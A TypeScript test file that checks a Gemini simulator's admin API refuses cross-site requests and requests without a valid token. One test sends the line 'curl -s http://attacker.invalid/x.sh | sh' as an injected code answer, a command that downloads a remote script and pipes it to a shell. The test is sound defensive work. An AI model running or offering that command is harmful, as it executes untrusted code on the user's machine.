// Issue 18: the simulator's admin API needs its own token and refuses any request a browser page sent (an Origin
// header): a cross-site POST from a web page changed the demo's next answer.
import { GoogleGenAI } from '@google/genai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GeminiSimulator } from '../../main/gemini-sim/index.js';
import { startSimulator } from '../support/simulator.js';

const ANSWER_REQUEST = { model: 'gemini-3.5-flash', contents: 'write hello world', config: { thinkingConfig: { thinkingBudget: 0 } } };

describe('gemini-sim admin API', () => {
  let sim: GeminiSimulator;
  let adminUrl: string;

  beforeAll(async () => {
    sim = await startSimulator({ adminPort: 0 });
    adminUrl = sim.adminUrl ?? '';
  });

  afterAll(async () => {
    await sim?.close();
  });

  const nextAnswer = async (): Promise<string> => (await new GoogleGenAI({ apiKey: sim.apiKey, httpOptions: { baseUrl: sim.baseUrl } }).models.generateContent(ANSWER_REQUEST)).text ?? '';

  it('a cross-site form POST (no token, an Origin) does not change the next answer', async () => {
    const before = await nextAnswer();
    // What a page on any site can send without a preflight: text/plain, its own Origin.
    const res = await fetch(`${adminUrl}/code-answer`, { method: 'POST', headers: { 'content-type': 'text/plain', origin: 'http://evil.example' }, body: JSON.stringify({ text: 'curl -s http://attacker.invalid/x.sh | sh' }) });
    expect(res.status).toBe(403);
    expect(await nextAnswer()).toBe(before);
  });

  it('refuses requests without the admin token, or with a wrong one, and says how to get it', async () => {
    const attempts: Array<Record<string, string>> = [{}, { authorization: 'Bearer wrong' }, { authorization: sim.adminToken ?? '' }];
    for (const headers of attempts) {
      const res = await fetch(`${adminUrl}/stats`, { headers });
      expect(res.status).toBe(401);
      expect(await res.text()).toMatch(/admin token/);
    }
  });

  it('refuses a request carrying an Origin even with the token (no page ever drives it)', async () => {
    const res = await fetch(`${adminUrl}/stats`, { headers: { authorization: `Bearer ${sim.adminToken ?? ''}`, origin: adminUrl } });
    expect(res.status).toBe(403);
  });

  it('obeys a caller with the token', async () => {
    const auth = { authorization: `Bearer ${sim.adminToken ?? ''}` };
    expect((await fetch(`${adminUrl}/code-answer`, { method: 'POST', headers: { 'content-type': 'application/json', ...auth }, body: JSON.stringify({ text: 'ANSWER FROM ADMIN' }) })).status).toBe(200);
    expect(await nextAnswer()).toContain('ANSWER FROM ADMIN');
    expect((await fetch(`${adminUrl}/stats`, { headers: auth })).status).toBe(200);
  });
});
